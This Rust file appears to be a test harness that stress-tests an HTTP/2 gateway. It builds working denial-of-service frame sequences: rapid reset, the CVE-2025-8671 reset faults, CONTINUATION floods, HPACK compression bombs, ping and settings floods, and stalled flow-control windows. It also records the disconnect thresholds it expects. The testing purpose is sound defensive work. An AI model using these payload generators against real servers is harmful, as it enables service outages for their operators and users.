//! Attacks on an HTTP/2 connection, by class (`reliability.md` 1.2).

use crate::frames::{
    CANCEL, CONTINUATION, DATA, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, RawHttp2, SETTINGS,
    WINDOW_UPDATE, block, frame, headers, integer, request_block,
};

pub const WAIT: &[u8] = b"/clusters/root:org/wait";
const BIG: &[u8] = b"/clusters/root:org/big";
/// Streams that a connection may have open, as configured by default.
pub const MOST_STREAMS: usize = 250;
/// Initial window of a stream, in bytes.
const STREAM_WINDOW: usize = 64 << 10;
/// Times that a frame is written at once.
const AT_ONCE: usize = 100;
/// Frames after which an attacker has been disconnected, including those that wait in sockets on the way.
const SOON: Option<usize> = Some(1_000_000);

/// Attacks of one kind.
pub struct Class {
    pub name: &'static str,
    /// The known deviation from the goals.
    pub miss: Option<Miss>,
    pub attacks: &'static [Attack],
}

/// A class that misses the goals, with the reason for the printed report; docs/gateway-limits.md says the same.
pub struct Miss {
    pub why: &'static str,
    /// The least part of the honest requests that is served, of what is wanted of the other classes.
    pub goodput: f64,
    /// The most that a connection takes for a moment.
    pub connection_kib: u64,
}

/// One variant of an attack.
pub struct Attack {
    pub name: &'static str,
    /// Whether the attacker takes what it is answered.
    pub reads: bool,
    /// Written once.
    pub first: fn(&mut RawHttp2) -> Vec<u8>,
    /// Written again and again, unless it is nothing.
    pub more: fn(&mut RawHttp2) -> Vec<u8>,
    /// Frames in it.
    pub frames: usize,
    /// Frames after which the connection must have been closed.
    pub max_frames: Option<usize>,
}

const fn attack(
    name: &'static str,
    first: fn(&mut RawHttp2) -> Vec<u8>,
    more: fn(&mut RawHttp2) -> Vec<u8>,
    frames: usize,
) -> Attack {
    Attack { name, reads: true, first, more, frames, max_frames: SOON }
}

/// By who takes no answers.
const fn deaf(attack: Attack) -> Attack {
    Attack { reads: false, ..attack }
}

/// Held back or refused, and not cut off.
const fn borne(attack: Attack) -> Attack {
    Attack { max_frames: None, ..attack }
}

const RESPONSES: Miss = Miss {
    why: "shards send a window ahead on every stream before the first sample of stalled streams",
    goodput: 0.9,
    connection_kib: 24 << 10,
};

pub const CLASSES: &[Class] = &[
    Class {
        name: "rapid reset",
        miss: None,
        attacks: &[attack("cancel", nothing, rapid_reset, 2 * AT_ONCE)],
    },
    Class {
        name: "made you reset",
        miss: None,
        attacks: &[
            attack("no increment", nothing, |connection| reset_by(connection, no_increment), 2 * AT_ONCE),
            attack("overflow", nothing, |connection| reset_by(connection, overflow), 2 * AT_ONCE),
            attack("data after the end", nothing, |connection| reset_by(connection, late_data), 3 * AT_ONCE),
            attack("head after the end", nothing, |connection| reset_by(connection, late_head), 3 * AT_ONCE),
            attack(
                "priority over itself",
                nothing,
                |connection| reset_by(connection, own_priority),
                2 * AT_ONCE,
            ),
            attack("short priority", nothing, |connection| reset_by(connection, short_priority), 2 * AT_ONCE),
            attack("no path", nothing, headless, AT_ONCE),
        ],
    },
    Class {
        name: "continuation flood",
        miss: None,
        attacks: &[
            attack("full", head_begins, |_| frame(CONTINUATION, 0, 1, &field().repeat(100)).repeat(20), 20),
            attack("small", head_begins, |_| frame(CONTINUATION, 0, 1, &field()).repeat(AT_ONCE), AT_ONCE),
            attack("empty", head_begins, |_| frame(CONTINUATION, 0, 1, b"").repeat(AT_ONCE), AT_ONCE),
        ],
    },
    Class {
        name: "HTTP/2 bomb",
        miss: None,
        attacks: &[
            attack("large fields", nothing, |connection| bombs(connection, 3_900, 6), 10),
            attack("many fields", nothing, |connection| bombs(connection, 1, 110), 10),
            attack("very many large fields", nothing, |connection| bombs(connection, 3_900, 4_000), 10),
            borne(attack("held open", |connection| all_streams(connection, &bomb(1, 40)), |_| Vec::new(), 0)),
        ],
    },
    Class {
        name: "pings and settings",
        miss: None,
        attacks: &[
            attack("pings", nothing, |_| pings(), AT_ONCE),
            attack("settings", nothing, |_| frame(SETTINGS, 0, 0, &[]).repeat(AT_ONCE), AT_ONCE),
            attack(
                "a setting",
                nothing,
                |_| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, 0, 0]).repeat(AT_ONCE),
                AT_ONCE,
            ),
            borne(deaf(attack("pings, unheard", nothing, |_| pings(), AT_ONCE))),
            borne(deaf(attack(
                "settings, unheard",
                nothing,
                |_| frame(SETTINGS, 0, 0, &[]).repeat(AT_ONCE),
                AT_ONCE,
            ))),
        ],
    },
    Class {
        name: "useless frames",
        miss: None,
        attacks: &[
            attack("empty data", upload, |_| frame(DATA, 0, 1, b"").repeat(AT_ONCE), AT_ONCE),
            attack("padding", upload, |_| frame(DATA, 8, 1, b"\0").repeat(AT_ONCE), AT_ONCE),
            attack("bytes", upload, |_| frame(DATA, 0, 1, b"x").repeat(AT_ONCE), AT_ONCE),
            attack(
                "windows",
                upload,
                |_| frame(WINDOW_UPDATE, 0, 1, &1_u32.to_be_bytes()).repeat(AT_ONCE),
                AT_ONCE,
            ),
            attack(
                "priorities",
                upload,
                |_| frame(PRIORITY, 0, 3, &[0, 0, 0, 1, 255]).repeat(AT_ONCE),
                AT_ONCE,
            ),
            attack("unknown", upload, |_| frame(200, 0, 1, b"unknown").repeat(AT_ONCE), AT_ONCE),
        ],
    },
    Class {
        name: "heads of a thousand empty fields",
        miss: None,
        attacks: &[
            attack("neither", nothing, |connection| empty_fields(connection, (b"", b"")), 1),
            attack("no name", nothing, |connection| empty_fields(connection, (b"", b"x")), 1),
            attack("no value", nothing, |connection| empty_fields(connection, (b"x", b"")), 1),
        ],
    },
    Class {
        name: "unread uploads",
        miss: None,
        attacks: &[borne(attack("all streams", stalled_uploads, |_| Vec::new(), 0))],
    },
    Class {
        name: "unread responses",
        miss: Some(RESPONSES),
        attacks: &[borne(Attack {
            name: "byte by byte",
            reads: false,
            first: without_window,
            more: |_| Vec::new(),
            frames: 0,
            max_frames: None,
        })],
    },
];

fn nothing(_: &mut RawHttp2) -> Vec<u8> {
    Vec::new()
}

/// Another stream, whose answers are not remembered.
fn next(connection: &mut RawHttp2) -> u32 {
    connection.next_stream += 2;
    connection.next_stream - 2
}

fn rapid_reset(connection: &mut RawHttp2) -> Vec<u8> {
    let request = request_block(b"GET", WAIT);
    let pairs = (0..AT_ONCE).flat_map(|_| {
        let stream = next(connection);
        [headers(stream, END_STREAM, &request), frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes())].concat()
    });
    pairs.collect()
}

/// Requests, each with a fault for which the server resets the stream.
fn reset_by(connection: &mut RawHttp2, fault: fn(u32) -> Vec<u8>) -> Vec<u8> {
    let requests = (0..AT_ONCE).flat_map(|_| {
        let stream = next(connection);
        [headers(stream, 0, &request_block(b"POST", WAIT)), fault(stream)].concat()
    });
    requests.collect()
}

/// The faults of CVE-2025-8671.
pub const FAULTS: [fn(u32) -> Vec<u8>; 6] =
    [no_increment, overflow, late_data, late_head, own_priority, short_priority];

fn no_increment(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &0_u32.to_be_bytes())
}

fn overflow(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &((1_u32 << 31) - 1).to_be_bytes())
}

fn late_data(stream: u32) -> Vec<u8> {
    frame(DATA, END_STREAM, stream, b"x").repeat(2)
}

fn late_head(stream: u32) -> Vec<u8> {
    let head = headers(stream, END_STREAM, &request_block(b"GET", WAIT));
    [frame(DATA, END_STREAM, stream, b"x"), head].concat()
}

fn own_priority(stream: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream, &[&stream.to_be_bytes()[..], &[0]].concat())
}

fn short_priority(stream: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream, b"four")
}

/// Requests that are none (CVE-2019-9514).
fn headless(connection: &mut RawHttp2) -> Vec<u8> {
    let head = block([(&b":method"[..], &b"GET"[..]), (b":scheme", b"https")]);
    (0..AT_ONCE).flat_map(|_| headers(next(connection), END_STREAM, &head)).collect()
}

fn field() -> Vec<u8> {
    block([(&b"x-a"[..], &[b'y'; 100][..])])
}

/// A head without an end.
fn head_begins(connection: &mut RawHttp2) -> Vec<u8> {
    frame(HEADERS, 0, next(connection), &request_block(b"GET", WAIT))
}

/// A head with an entry for the table of compression, and references to it, one byte each.
pub fn bomb(size: usize, references: usize) -> Vec<u8> {
    let mut bomb = request_block(b"POST", WAIT);
    bomb.push(0x40);
    integer(&mut bomb, 0, 7, 6);
    bomb.extend_from_slice(b"cookie");
    integer(&mut bomb, 0, 7, size);
    bomb.extend(vec![b'y'; size]);
    bomb.extend(vec![0xbe; references]);
    bomb
}

fn bombs(connection: &mut RawHttp2, size: usize, references: usize) -> Vec<u8> {
    let bomb = bomb(size, references);
    (0..10).flat_map(|_| headers(next(connection), 0, &bomb)).collect()
}

fn all_streams(connection: &mut RawHttp2, head: &[u8]) -> Vec<u8> {
    (0..MOST_STREAMS).flat_map(|_| headers(next(connection), 0, head)).collect()
}

fn pings() -> Vec<u8> {
    frame(PING, 0, 0, &[7; 8]).repeat(AT_ONCE)
}

/// A request whose body does not end, on the first stream.
fn upload(connection: &mut RawHttp2) -> Vec<u8> {
    headers(next(connection), 0, &request_block(b"POST", WAIT))
}

fn empty_fields(connection: &mut RawHttp2, field: (&[u8], &[u8])) -> Vec<u8> {
    let fields = block(std::iter::repeat_n(field, 1_000));
    let head = [request_block(b"GET", b"/clusters/root:org/must-not-arrive"), fields].concat();
    headers(next(connection), END_STREAM, &head)
}

/// Large answers on every stream, with a window of some bytes.
fn without_window(connection: &mut RawHttp2) -> Vec<u8> {
    let mut bytes = frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 0, 0]);
    let request = request_block(b"GET", BIG);
    let streams: Vec<u32> = (0..MOST_STREAMS).map(|_| next(connection)).collect();
    bytes.extend(streams.iter().flat_map(|stream| headers(*stream, END_STREAM, &request)));
    for _ in 0..20 {
        bytes
            .extend(streams.iter().flat_map(|stream| frame(WINDOW_UPDATE, 0, *stream, &1_u32.to_be_bytes())));
    }
    bytes
}

/// A full window of data on every stream, to a shard that reads nothing.
fn stalled_uploads(connection: &mut RawHttp2) -> Vec<u8> {
    let head = request_block(b"POST", WAIT);
    let part = vec![b'x'; 16 << 10];
    let streams: Vec<u32> = (0..MOST_STREAMS).map(|_| next(connection)).collect();
    let mut bytes: Vec<u8> = streams.iter().flat_map(|stream| headers(*stream, 0, &head)).collect();
    for _ in 0..STREAM_WINDOW / part.len() {
        bytes.extend(streams.iter().flat_map(|stream| frame(DATA, 0, *stream, &part)));
    }
    bytes
}
